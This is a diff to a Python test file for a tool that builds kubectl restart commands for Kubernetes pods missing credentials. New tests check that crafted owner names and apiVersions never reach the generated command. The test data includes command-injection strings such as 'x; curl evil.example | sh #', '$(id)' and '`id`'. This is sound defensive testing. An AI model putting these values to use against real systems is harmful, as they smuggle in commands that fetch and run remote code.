@@ -48,8 +48,9 @@ def lacking(*pods, accounts=None):
     return pods_without_credentials(pods, role_accounts(accounts or [service_account()]))
 
 
-def owned_by(kind, name, **labels):
-    return {"ownerReferences": [{"kind": kind, "name": name, "controller": True}], "labels": labels}
+def owned_by(kind, name, api_version="apps/v1", **labels):
+    owner = {"apiVersion": api_version, "kind": kind, "name": name, "controller": True}
+    return {"ownerReferences": [owner], "labels": labels}
 
 
 class TestRoleAccounts:
@@ -127,7 +128,9 @@ class TestPods:
             (owned_by("StatefulSet", "cart"), "rollout restart statefulset/cart"),
             (owned_by("DaemonSet", "cart"), "rollout restart daemonset/cart"),
             (owned_by("ReplicaSet", "cart"), "delete pod cart-1"),
-            (owned_by("Job", "cart"), "delete pod cart-1"),
+            (owned_by("Job", "cart", "batch/v1"), "delete pod cart-1"),
+            (owned_by("Deployment", "cart", "evil.example.com/v1"), "delete pod cart-1"),
+            (owned_by("ReplicaSet", "-7d5c", **{"pod-template-hash": "7d5c"}), "delete pod cart-1"),
             ({}, "delete pod cart-1"),
         ],
     )
@@ -135,6 +138,16 @@ class TestPods:
         (found,) = lacking(pod(**metadata))
         assert found.restart == f"kubectl --namespace shop {command}"
         assert found.as_data()["restart"] == found.restart
+
+    @pytest.mark.parametrize("name", ["x; curl evil.example | sh #", "--all", "$(id)", "x\ny", "`id`", "x'", ""])
+    @pytest.mark.parametrize("api_version", ["apps/v1", "evil.example.com/v1"])
+    def test_an_owner_that_cannot_exist_is_not_in_the_command(self, name, api_version):
+        """The creator of a pod names its owner, and Kubernetes takes every text."""
+        for kind, label in (("Deployment", ""), ("ReplicaSet", "7d5c")):
+            owned = owned_by(kind, f"{name}-7d5c" if label else name, api_version, **{"pod-template-hash": label})
+            (found,) = lacking(pod(**owned))
+            assert found.restart == "kubectl --namespace shop delete pod cart-1"
+            assert found.owner_name == ""
 
     def test_pods_are_listed_in_order_and_their_data_is_plain(self):
         found = lacking(pod("b"), pod("a"))
